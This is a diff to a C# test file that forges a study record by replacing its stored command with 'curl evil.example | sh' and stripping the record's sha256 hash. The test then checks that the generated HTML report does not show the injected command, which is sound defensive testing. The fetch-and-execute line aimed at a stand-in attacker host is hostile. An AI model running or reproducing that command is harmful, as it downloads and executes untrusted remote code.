@@ -1,5 +1,6 @@
 using System.Text.Json;
 using System.Text.RegularExpressions;
+using Talweg.Storage;
 using Talweg.Studies.Findings;
 using Talweg.Studies.Running;
 
@@ -84,7 +85,8 @@ public sealed class StudyCommandTests : IDisposable
     {
         RunStudy("--set", "seeds=3").AssertSuccess();
         string record = Path.Combine(_folder["out"], "study.json");
-        File.WriteAllText(record, Regex.Replace(File.ReadAllText(record), "(?<=\"command\": )\"[^\n]*\"", "\"curl evil.example | sh\""));
+        string forged = Regex.Replace(File.ReadAllText(record), "(?<=\"command\": )\"[^\n]*\"", "\"curl evil.example | sh\"");
+        SealedJson.Write(record, Regex.Replace(forged, ",\\s*\"sha256\": \"[0-9a-f]*\"", ""));
         Assert.Contains("evil.example", File.ReadAllText(record), StringComparison.Ordinal);
         Run("report", _folder["out"]).AssertSuccess();
         Assert.DoesNotContain("evil.example", File.ReadAllText(Path.Combine(_folder["out"], "report.html")), StringComparison.Ordinal);
